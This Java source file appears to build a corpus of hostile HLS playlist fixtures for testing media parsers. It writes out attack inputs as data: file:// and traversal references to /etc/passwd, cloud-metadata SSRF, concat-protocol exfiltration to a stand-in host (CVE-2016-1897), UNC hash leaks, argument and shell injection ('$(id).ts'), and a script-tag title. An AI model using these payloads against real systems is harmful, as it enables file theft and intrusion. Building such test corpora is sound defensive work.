package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCODING;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.HUGE_PROMISE;
import static org.junitsandbox.corpus.Attack.INJECTION;
import static org.junitsandbox.corpus.Attack.LONG_NAME;
import static org.junitsandbox.corpus.Attack.LOOP;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.TRAVERSAL;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.util.stream.Stream;

/** Playlists for streaming (RFC 8216), whose lines name files and addresses. */
final class PlaylistFiles {

    private static final String HEAD = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n";
    private static final String END = "#EXT-X-ENDLIST\n";
    private static final String TWIN = list("part1.ts");
    private static final Family LIST = Family.of(Format.M3U8, TWIN);
    private static final String SECTION = "RFC 8216 section 4.3.2.1";

    private PlaylistFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(segments(), keys(), loads(), ends()).flatMap(all -> all);
    }

    private static String list(String segment) {
        return with("", segment);
    }

    private static String with(String tag, String segment) {
        return HEAD + tag + "#EXTINF:9,harmless\n" + segment + "\n" + END;
    }

    private static HostileFile segment(String variant, String description, String reference, String segment) {
        return LIST.file(EXTERNAL_REFERENCE, variant, description, "CWE-918, " + reference, list(segment));
    }

    private static Stream<HostileFile> segments() {
        String leak = "CVE-2016-1897";
        return Stream.of(
                segment("file", "A segment is the file /etc/passwd.", SECTION, "file:///etc/passwd"),
                segment("path", "A segment is the file /etc/passwd, by its path.", SECTION, "/etc/passwd"),
                segment("http", "A segment is at an address in the network.", SECTION, "http://example.invalid/x.ts"),
                segment(
                        "metadata",
                        "A segment is what a cloud gives to its machines only.",
                        SECTION,
                        "http://169.254.169.254/latest/meta-data/"),
                segment(
                        "concat",
                        "A segment joins an address and the first line of /etc/passwd: the file goes to the network.",
                        leak,
                        "concat:http://example.invalid/?|file:///etc/passwd"),
                segment(
                        "subfile",
                        "A segment joins an address and some bytes of /etc/passwd.",
                        "CVE-2016-1898",
                        "concat:http://example.invalid/?|subfile,,start,0,end,99,,:/etc/passwd"),
                segment("crypto", "A segment is /etc/passwd as a decrypting protocol gives it.", leak,
                        "crypto:file:///etc/passwd"),
                segment("server", "A segment is on a file server, which gets the user's password hash.", SECTION,
                        "\\\\example.invalid\\share\\x.ts"));
    }

    private static Stream<HostileFile> keys() {
        return Stream.of(
                LIST.file(
                        EXTERNAL_REFERENCE,
                        "key-file",
                        "The key is the file /etc/passwd.",
                        "RFC 8216 section 4.3.2.4",
                        with("#EXT-X-KEY:METHOD=AES-128,URI=\"file:///etc/passwd\"\n", "part1.ts")),
                LIST.file(
                        EXTERNAL_REFERENCE,
                        "map-http",
                        "The first section is at an address in the network.",
                        "RFC 8216 section 4.3.2.5",
                        with("#EXT-X-MAP:URI=\"http://example.invalid/x.mp4\"\n", "part1.ts")),
                LIST.file(
                        TRAVERSAL,
                        "segment",
                        "A segment's name leads upwards to /etc/passwd.",
                        SECTION,
                        list("../../../../../../etc/passwd")),
                LIST.file(
                        TRAVERSAL,
                        "segment-encoded",
                        "A segment's name leads upwards, with slashes in hexadecimal.",
                        SECTION,
                        list("..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd")),
                LIST.file(
                        INJECTION,
                        "option",
                        "A segment's name is an option for the program that gets it.",
                        "CWE-88, " + SECTION,
                        list("-i/etc/passwd")),
                LIST.file(
                        INJECTION,
                        "shell",
                        "A segment's name holds a command for a shell.",
                        "CWE-78, " + SECTION,
                        list("$(id).ts")),
                LIST.file(
                        INJECTION,
                        "title-markup",
                        "A title is the markup of a script.",
                        "CWE-79, " + SECTION,
                        TWIN.replace("harmless", "<script>alert(1)</script>")));
    }

    private static Stream<HostileFile> loads() {
        String self = "m3u8-loop-itself.m3u8";
        return Stream.of(
                LIST.file(
                        LOOP,
                        "itself",
                        "The playlist is its own variant.",
                        "RFC 8216 section 4.3.4.2",
                        "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + self + "\n"),
                LIST.begin(MANY_ENTRIES, "segments", "10,000 segments.", SECTION)
                        .expandsTo(0, 10_000, 1)
                        .content(Content.of(HEAD + "#EXTINF:9,\na.ts\n".repeat(10_000) + END))
                        .build(),
                LIST.file(
                        HUGE_PROMISE,
                        "duration",
                        "A segment of 1e300 seconds.",
                        SECTION,
                        TWIN.replace("#EXTINF:9,", "#EXTINF:1e300,")),
                LIST.file(
                        HUGE_PROMISE,
                        "range",
                        "A segment of 9,223,372,036,854,775,807 bytes.",
                        "RFC 8216 section 4.3.2.2",
                        with("#EXT-X-BYTERANGE:9223372036854775807@0\n", "part1.ts")),
                LIST.file(
                        HUGE_PROMISE,
                        "sequence",
                        "The first segment has the number 18,446,744,073,709,551,615.",
                        "RFC 8216 section 4.3.3.2",
                        with("#EXT-X-MEDIA-SEQUENCE:18446744073709551615\n", "part1.ts")),
                LIST.file(
                        LONG_NAME,
                        "segment",
                        "A segment's name has 100,000 characters.",
                        SECTION,
                        list("a".repeat(100_000))));
    }

    private static Stream<HostileFile> ends() {
        String section = "RFC 8216 section 4.1";
        return Stream.of(
                LIST.file(EMPTY, "no-bytes", "The file has no bytes.", section, ""),
                LIST.file(EMPTY, "no-segments", "There is no segment.", section, HEAD + END),
                LIST.file(MALFORMED, "no-head", "There is no head.", "RFC 8216 section 4.3.1.1", "part1.ts\n"),
                LIST.file(
                        MALFORMED,
                        "duration-negative",
                        "A segment of a negative duration.",
                        SECTION,
                        TWIN.replace("#EXTINF:9,", "#EXTINF:-9,")),
                LIST.file(
                        MALFORMED,
                        "duration-text",
                        "A duration that is not a number.",
                        SECTION,
                        TWIN.replace("#EXTINF:9,", "#EXTINF:nan,")),
                LIST.file(ENCODING, "null", "The character 0 within a name.", section, list("part1.ts\0.txt")),
                LIST.file(
                        ENCODING,
                        "not-utf-8",
                        "A name that is not valid UTF-8.",
                        section,
                        Content.of(Bytes.latin1(list("caf\u00e9.ts")))),
                LIST.file(
                        TRUNCATED,
                        "in-tag",
                        "The file ends within a tag.",
                        section,
                        TWIN.substring(0, TWIN.indexOf("INF:9"))),
                LIST.file(
                        TRUNCATED,
                        "before-segment",
                        "The file ends before the segment.",
                        section,
                        TWIN.substring(0, TWIN.indexOf("part1"))));
    }
}
